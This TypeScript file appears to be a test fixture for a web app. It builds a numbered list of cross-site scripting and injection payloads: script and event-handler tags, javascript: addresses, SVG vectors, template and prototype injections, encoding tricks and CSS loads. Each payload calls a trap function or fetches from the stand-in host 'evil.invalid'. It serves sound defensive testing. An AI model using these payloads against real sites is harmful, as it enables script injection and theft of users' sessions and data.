/** Texts that would run a script, or ask another host for something, if a page took them for more than text. */

/** What a payload calls with its number if it runs. */
export const TRAP = 'ran'

/** A host that nobody has. */
export const ELSEWHERE = 'evil.invalid'

type Kind = (call: string, number: number) => string

const TAGS: Kind[] = [
    (call) => `<script>${call}</script>`,
    (_, number) => `<script src=//${ELSEWHERE}/${number}></script>`,
    (call) => `<img src onerror=${call}>`,
    (call) => `<img/src/onerror=${call}>`,
    (_, number) => `<img src=//${ELSEWHERE}/${number}>`,
    (_, number) => `<img srcset=//${ELSEWHERE}/${number}>`,
    (call) => `<image src onerror=${call}>`,
    (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    (call) => `<iframe onload=${call}></iframe>`,
    (_, number) => `<iframe src=//${ELSEWHERE}/${number}></iframe>`,
    (call) => `<details open ontoggle=${call}>`,
    (call) => `<input autofocus onfocus=${call}>`,
    (call) => `<video src onerror=${call}>`,
    (call) => `<audio src onerror=${call}>`,
    (call) => `<video><source onerror=${call}></video>`,
    (_, number) => `<video poster=//${ELSEWHERE}/${number}></video>`,
    (call) => `<object data onerror=${call}></object>`,
    (_, number) => `<embed src=//${ELSEWHERE}/${number}>`,
    (_, number) => `<link rel=stylesheet href=//${ELSEWHERE}/${number}>`,
    (_, number) => `<link rel=prefetch href=//${ELSEWHERE}/${number}>`,
    (call) => `<style onload=${call}></style>`,
    (call) => `<body onload=${call}>`,
    (call) => `<b onanimationstart=${call} style=animation:spin></b>`,
    (_, number) => `<base href=//${ELSEWHERE}/${number}/>`,
]

const ATTRIBUTES: Kind[] = [
    (call) => `" autofocus onfocus="${call}`,
    (call) => `' autofocus onfocus='${call}`,
    (call) => ` autofocus onfocus=${call} x=`,
    (call) => `" onerror="${call}" src="`,
    (call) => `\` onfocus=${call} \``,
    (call) => `" style="animation:spin 1ms" onanimationstart="${call}`,
    (call) => `</title><img src onerror=${call}>`,
    (call) => `</textarea><img src onerror=${call}>`,
    (call) => `</script><script>${call}</script>`,
    (call) => `--><img src onerror=${call}>`,
    (call) => `";${call};//`,
    (call) => `\\";${call};//`,
]

const ADDRESSES: Kind[] = [
    (call) => `javascript:${call}`,
    (call) => `JaVaScRiPt:${call}`,
    (call) => `java\tscript:${call}`,
    (call) => `\u0001javascript:${call}`,
    (call) => `javascript://%0a${call}`,
    (call) => `javascript:/*http://*/${call}/edit#`,
    (call) => `javascript://x/table/%0a${call}`,
    (call) => `data:text/html,<script>opener.${call}</script>`,
    (_, number) => `//${ELSEWHERE}/${number}`,
    (_, number) => `\\\\${ELSEWHERE}\\${number}`,
    (_, number) => `../../..//${ELSEWHERE}/${number}`,
]

const DRAWINGS: Kind[] = [
    (call) => `<svg onload=${call}>`,
    (call) => `<svg><script>${call}</script></svg>`,
    (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    (call) => `<svg><set onbegin=${call} attributeName=x to=1>`,
    (call) => `<svg><foreignObject><img src onerror=${call}>`,
    (_, number) => `<svg><image href=//${ELSEWHERE}/${number} />`,
    (_, number) => `<svg><use href=//${ELSEWHERE}/${number}#a />`,
    (call) => `<math><mtext><img src onerror=${call}>`,
]

const TEMPLATES: Kind[] = [
    (call) => `{@html "<img src onerror=${call}>"}`,
    (call) => `{${call}}`,
    (call) => `{{${call}}}`,
    (call) => `\${${call}}`,
    (call) => `{{constructor.constructor("${call}")()}}`,
    (call) => `<%= ${call} %>`,
    (call) => `{ DATETIME(${call}) }`,
    (call) => `__proto__[${call}]`,
]

const TRICKS: Kind[] = [
    (call) => `＜img src onerror=${call}＞`,
    (call) => `\\u003cimg src onerror=${call}\\u003e`,
    (call) => `\\x3cimg src onerror=${call}\\x3e`,
    (call) => `&lt;img src onerror=${call}&gt;`,
    (call) => `&#60;img src onerror=${call}&#62;`,
    (call) => `%3Cimg src onerror=${call}%3E`,
    (call) => `\u202e<img src onerror=${call}>`,
    (call) => `<im\u0000g src onerror=${call}>`,
    (call) => `<img\u2028src onerror=${call}>`,
    (call) => `<\u017fcript>${call}</\u017fcript>`,
]

const STYLES: Kind[] = [
    (_, number) => `red;background:url(//${ELSEWHERE}/${number})`,
    (_, number) => `red}*{background:url(//${ELSEWHERE}/${number})`,
    (_, number) => `<style>@import '//${ELSEWHERE}/${number}'</style>`,
    (_, number) => `<b style="background:url(//${ELSEWHERE}/${number})">b</b>`,
    (call) => `</style><img src onerror=${call}>`,
    (call) => `expression(${call})`,
]

const KINDS = [TAGS, ATTRIBUTES, ADDRESSES, DRAWINGS, TEMPLATES, TRICKS, STYLES].flat()

/** Every kind as it is, after the end of an attribute, and within other words. */
const WRAPPINGS = [(text: string) => text, (text: string) => `">${text}`, (text: string) => `Ann ${text} Ben`]

/** The payloads, each with a number of its own. */
export const PAYLOADS: readonly string[] = WRAPPINGS.flatMap((wrap, round) =>
    KINDS.map((kind, index) => {
        const number = round * KINDS.length + index
        return wrap(kind(`${TRAP}(${number})`, number))
    }),
)
